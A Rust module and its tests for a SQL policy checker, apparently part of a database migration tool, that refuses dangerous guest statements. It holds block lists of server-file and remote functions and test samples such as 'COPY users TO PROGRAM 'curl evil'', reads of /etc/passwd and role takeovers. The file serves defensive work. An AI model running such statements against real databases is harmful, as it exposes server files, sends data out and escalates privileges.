//! The SQL policy for what guests pass to `execute` and `query`, decided by parsing
//! (sqlparser), not by regular expressions. Every statement of a call must pass; a
//! refusal names the statement and the rule.
//!
//! Rules (names used in `[policy] allow = [...]` and in refusals):
//! - `transaction-control`: BEGIN, COMMIT, ROLLBACK, SAVEPOINT, RELEASE — the host's job.
//! - `attach`: ATTACH / DETACH DATABASE.
//! - `pragma`: PRAGMAs that weaken safety (writable_schema, foreign_keys, journal_mode, …).
//! - `server-files`: COPY to/from a server file or PROGRAM, LOAD DATA, SELECT … INTO
//!   OUTFILE/DUMPFILE, and the functions pg_read_file, pg_read_binary_file, pg_ls_dir,
//!   pg_stat_file, lo_import, lo_export, load_extension, LOAD_FILE.
//! - `remote`: dblink* functions, CREATE SERVER / FOREIGN DATA WRAPPER / USER MAPPING.
//! - `alter-system`: ALTER SYSTEM.
//! - `privileges`: GRANT, REVOKE.
//! - `roles`: CREATE/ALTER/DROP ROLE or USER, SET ROLE, SET SESSION AUTHORIZATION.
//! - `databases`: CREATE/DROP DATABASE, DROP SCHEMA.
//! - `extensions`: CREATE EXTENSION (and LOAD/INSTALL) unless the extension is listed in
//!   `[policy] extensions`.
//! - `unparseable`: SQL the parser cannot read (allow with `allow-unparseable = true`).

use serde::{Deserialize, Serialize};
use sqlparser::ast::{CopyTarget, ObjectType, Set, Statement};
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

use crate::dialect::{Dialect, parser_dialect};

/// `[policy]` in retort.toml.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
pub struct Policy {
    /// Rules to switch off, by name (see the module docs).
    pub allow: Vec<String>,
    /// Extensions a revision may create.
    pub extensions: Vec<String>,
    /// Let SQL through that the parser cannot read.
    pub allow_unparseable: bool,
}

/// A refused statement.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("statement refused by rule `{rule}`: {statement}")]
pub struct Refusal {
    pub rule: &'static str,
    pub statement: String,
}

const UNSAFE_PRAGMAS: &[&str] = &[
    "writable_schema",
    "foreign_keys",
    "journal_mode",
    "synchronous",
    "trusted_schema",
    "legacy_alter_table",
    "ignore_check_constraints",
    "defer_foreign_keys",
    "schema_version",
    "user_version",
    "locking_mode",
    "mmap_size",
    "query_only",
    "temp_store_directory",
    "data_store_directory",
    "cell_size_check",
    "secure_delete",
    "key",
    "rekey",
];

const FILE_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "lo_import",
    "lo_export",
    "load_extension",
    "load_file",
];

impl Policy {
    fn allowed(&self, rule: &str) -> bool {
        self.allow.iter().any(|a| a == rule)
    }

    /// Checks every statement of `sql`.
    pub fn check(&self, dialect: Dialect, sql: &str) -> Result<(), Refusal> {
        let refuse = |rule: &'static str, statement: String| {
            if self.allowed(rule) {
                Ok(())
            } else {
                Err(Refusal { rule, statement })
            }
        };
        // Tokens first: function calls and word pairs anywhere, strings and comments aside.
        let d = parser_dialect(dialect);
        let tokens = Tokenizer::new(d.as_ref(), sql).tokenize();
        if let Ok(tokens) = &tokens {
            let words: Vec<Option<String>> = tokens
                .iter()
                .filter(|t| !matches!(t, Token::Whitespace(_)))
                .map(|t| match t {
                    Token::Word(w) => Some(w.value.to_lowercase()),
                    Token::LParen => Some("(".into()),
                    Token::Eq => Some("=".into()),
                    Token::SemiColon => Some(";".into()),
                    Token::Period => Some(".".into()),
                    _ => None,
                })
                .collect();
            // PRAGMA: sqlparser reads few of SQLite's forms, so decide on tokens. Reading
            // one is harmless; setting an unsafe one (`= value` or `(value)`) is not.
            let mut pragma_only = true;
            let mut i = 0;
            while i < words.len() {
                let start = i;
                while i < words.len() && words[i].as_deref() != Some(";") {
                    i += 1;
                }
                let statement = &words[start..i];
                i += 1;
                if statement.is_empty() {
                    continue;
                }
                if statement[0].as_deref() != Some("pragma") {
                    pragma_only = false;
                    continue;
                }
                // PRAGMA [schema.]name (= value | (value))
                let mut rest = &statement[1..];
                if rest.get(1).and_then(|t| t.as_deref()) == Some(".") {
                    rest = &rest[2..];
                }
                let name = rest.first().cloned().flatten().unwrap_or_default();
                let sets = matches!(rest.get(1).and_then(|t| t.as_deref()), Some("=" | "("));
                if sets && UNSAFE_PRAGMAS.contains(&name.as_str()) {
                    refuse("pragma", sql.into())?;
                }
            }
            if pragma_only {
                return Ok(());
            }
            for pair in words.windows(2) {
                match (pair[0].as_deref(), pair[1].as_deref()) {
                    (Some(f), Some("(")) if FILE_FUNCTIONS.contains(&f) => {
                        refuse("server-files", sql.into())?
                    }
                    (Some(f), Some("(")) if f.starts_with("dblink") => {
                        refuse("remote", sql.into())?
                    }
                    (Some("alter"), Some("system")) => refuse("alter-system", sql.into())?,
                    (Some("session"), Some("authorization")) => refuse("roles", sql.into())?,
                    (Some("load"), Some("data" | "xml")) => refuse("server-files", sql.into())?,
                    (Some("into"), Some("outfile" | "dumpfile")) => {
                        refuse("server-files", sql.into())?
                    }
                    _ => {}
                }
            }
        }
        let statements = match Parser::parse_sql(d.as_ref(), sql) {
            Ok(s) => s,
            Err(_) if self.allow_unparseable => return Ok(()),
            Err(e) => {
                return Err(Refusal {
                    rule: "unparseable",
                    statement: format!(
                        "{sql} ({e}; set [policy] allow-unparseable = true to let such SQL through)"
                    ),
                });
            }
        };
        for statement in &statements {
            let text = statement.to_string();
            match statement {
                Statement::StartTransaction { .. }
                | Statement::Commit { .. }
                | Statement::Rollback { .. }
                | Statement::Savepoint { .. }
                | Statement::ReleaseSavepoint { .. } => refuse("transaction-control", text)?,
                Statement::AttachDatabase { .. }
                | Statement::AttachDuckDBDatabase { .. }
                | Statement::DetachDuckDBDatabase { .. } => refuse("attach", text)?,
                // Decided on tokens above.
                Statement::Pragma { .. } => {}
                Statement::Copy {
                    target: CopyTarget::File { .. } | CopyTarget::Program { .. },
                    ..
                } => refuse("server-files", text)?,
                Statement::LoadData { .. } => refuse("server-files", text)?,
                Statement::CreateServer(_) => refuse("remote", text)?,
                Statement::Grant { .. } | Statement::Revoke { .. } => refuse("privileges", text)?,
                Statement::CreateRole { .. }
                | Statement::AlterRole { .. }
                | Statement::CreateUser(_) => refuse("roles", text)?,
                Statement::Set(Set::SetRole { .. }) => refuse("roles", text)?,
                Statement::Drop { object_type, .. } => match object_type {
                    ObjectType::Database | ObjectType::Schema => refuse("databases", text)?,
                    ObjectType::Role | ObjectType::User => refuse("roles", text)?,
                    _ => {}
                },
                Statement::CreateDatabase { .. } => refuse("databases", text)?,
                Statement::CreateExtension { name, .. }
                    if !self
                        .extensions
                        .iter()
                        .any(|e| e.eq_ignore_ascii_case(&name.value)) =>
                {
                    refuse("extensions", text)?
                }
                Statement::Install { .. } | Statement::Load { .. } => refuse("extensions", text)?,
                _ => {}
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(dialect: Dialect, sql: &str) -> Option<&'static str> {
        Policy::default().check(dialect, sql).err().map(|r| r.rule)
    }

    #[test]
    fn every_forbidden_class_is_refused() {
        use Dialect::*;
        let cases: &[(Dialect, &str, &str)] = &[
            (Sqlite, "BEGIN", "transaction-control"),
            (Postgres, "COMMIT", "transaction-control"),
            (Mysql, "ROLLBACK", "transaction-control"),
            (Postgres, "SAVEPOINT x", "transaction-control"),
            (Postgres, "RELEASE SAVEPOINT x", "transaction-control"),
            (Sqlite, "ATTACH DATABASE '/etc/x.db' AS x", "attach"),
            (Sqlite, "SELECT load_extension('evil')", "server-files"),
            (Sqlite, "PRAGMA writable_schema = 1", "pragma"),
            (Sqlite, "PRAGMA foreign_keys = ON", "pragma"),
            (Sqlite, "PRAGMA journal_mode = OFF", "pragma"),
            (
                Postgres,
                "COPY users TO PROGRAM 'curl evil'",
                "server-files",
            ),
            (Postgres, "COPY users FROM '/etc/passwd'", "server-files"),
            (
                Postgres,
                "SELECT pg_read_file('/etc/passwd')",
                "server-files",
            ),
            (Postgres, "SELECT pg_ls_dir('.')", "server-files"),
            (Postgres, "SELECT pg_read_binary_file('x')", "server-files"),
            (Postgres, "SELECT lo_import('/etc/passwd')", "server-files"),
            (Postgres, "SELECT lo_export(1, '/tmp/x')", "server-files"),
            (
                Postgres,
                "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
                "remote",
            ),
            (Postgres, "ALTER SYSTEM SET fsync = off", "alter-system"),
            (Postgres, "GRANT ALL ON users TO public", "privileges"),
            (Postgres, "REVOKE ALL ON users FROM public", "privileges"),
            (Postgres, "CREATE ROLE evil", "roles"),
            (Postgres, "ALTER ROLE postgres WITH PASSWORD 'x'", "roles"),
            (Postgres, "SET ROLE postgres", "roles"),
            (Postgres, "SET SESSION AUTHORIZATION postgres", "roles"),
            (Postgres, "CREATE DATABASE other", "databases"),
            (Postgres, "DROP DATABASE other", "databases"),
            (Postgres, "DROP SCHEMA public CASCADE", "databases"),
            (Postgres, "CREATE EXTENSION plpython3u", "extensions"),
            (
                Mysql,
                "LOAD DATA INFILE '/etc/passwd' INTO TABLE users",
                "server-files",
            ),
            (
                Mysql,
                "SELECT * FROM users INTO OUTFILE '/tmp/x'",
                "server-files",
            ),
            (Mysql, "SELECT LOAD_FILE('/etc/passwd')", "server-files"),
            (Mysql, "CREATE USER evil", "roles"),
            (
                Sqlite,
                "UPDATE users SET x = 1; COMMIT",
                "transaction-control",
            ),
            (Sqlite, "this is not sql", "unparseable"),
        ];
        for (dialect, sql, expected) in cases {
            assert_eq!(rule(*dialect, sql), Some(*expected), "{dialect:?}: {sql}");
        }
    }

    #[test]
    fn ordinary_sql_passes_and_rules_can_be_allowed() {
        for (d, sql) in [
            (
                Dialect::Sqlite,
                "UPDATE users SET role = 'member' WHERE role IS NULL",
            ),
            (Dialect::Sqlite, "PRAGMA table_info(users)"),
            (
                Dialect::Postgres,
                "SELECT 'pg_read_file(' AS text_not_a_call",
            ),
            (Dialect::Postgres, "INSERT INTO t (a) VALUES ($1)"),
            (
                Dialect::Mysql,
                "UPDATE users SET email = LOWER(email) WHERE id = ?",
            ),
        ] {
            assert_eq!(Policy::default().check(d, sql), Ok(()), "{sql}");
        }
        let lenient = Policy {
            allow: vec!["privileges".into()],
            extensions: vec!["pg_trgm".into()],
            allow_unparseable: true,
        };
        assert_eq!(
            lenient.check(Dialect::Postgres, "GRANT SELECT ON t TO app"),
            Ok(())
        );
        assert_eq!(
            lenient.check(Dialect::Postgres, "CREATE EXTENSION pg_trgm"),
            Ok(())
        );
        assert_eq!(lenient.check(Dialect::Sqlite, "this is not sql"), Ok(()));
        let refusal = Policy::default()
            .check(Dialect::Postgres, "CREATE ROLE x")
            .unwrap_err();
        assert_eq!(
            refusal.to_string(),
            "statement refused by rule `roles`: CREATE ROLE x"
        );
    }
}
